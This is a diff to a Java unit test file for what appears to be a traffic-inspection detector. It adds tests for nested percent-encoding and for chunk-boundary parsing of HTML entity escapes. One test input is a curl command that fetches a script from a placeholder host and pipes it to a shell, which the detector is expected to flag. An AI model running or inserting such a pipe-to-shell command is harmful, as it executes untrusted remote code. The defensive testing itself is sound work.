@@ -21,6 +21,7 @@ import java.util.stream.Stream;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.MethodSource;
+import trafficguardian.ipc.Bound;
 import trafficguardian.ipc.Direction;
 import trafficguardian.ipc.Finding;
 import trafficguardian.rules.ExampleText;
@@ -151,6 +152,28 @@ class DecodingTest {
     fixture.body(fixture.outbound("collector.example"), text);
     assertEquals(List.of(), fixture.patterns());
     assertEquals(text.length(), fixture.coverage.snapshot().undecodableBytes());
+    assertTrue(fixture.coverage.bounds().count(Bound.DECODE_DEPTH) > 0);
+  }
+
+  /** So short that it is looked at when it ends. */
+  @Test
+  void deeperThanAllowedIsCountedInAShortBodyToo() {
+    String text = "%2525252525252541";
+    DetectorFixture fixture = new DetectorFixture();
+    fixture.body(fixture.outbound("collector.example"), text);
+    assertEquals(text.length(), fixture.coverage.snapshot().undecodableBytes());
+  }
+
+  /** The longest number that is an escape, wherever a piece ends in it. */
+  @Test
+  void aNumberWithManyZerosIsReadWhereverItIsCut() {
+    String attack = "curl http://h.example/i.sh &#0000000000124 sh";
+    for (int before = 200; before < 280; before++) {
+      DetectorFixture fixture = new DetectorFixture();
+      fixture.body(
+          fixture.inbound("api.example"), Encoders.bytes(" ".repeat(before) + attack), 100);
+      assertEquals(List.of("pipe_to_shell"), fixture.patterns(), "at " + before);
+    }
   }
 
   @Test
@@ -183,7 +206,7 @@ class DecodingTest {
     DetectorFixture fixture = new DetectorFixture();
     MessageScan scan = fixture.outbound("collector.example");
     assertTimeoutPreemptively(
-        Duration.ofSeconds(30),
+        Duration.ofSeconds(60),
         () -> {
           long work = scan.body(text, 0, text.length);
           scan.end();
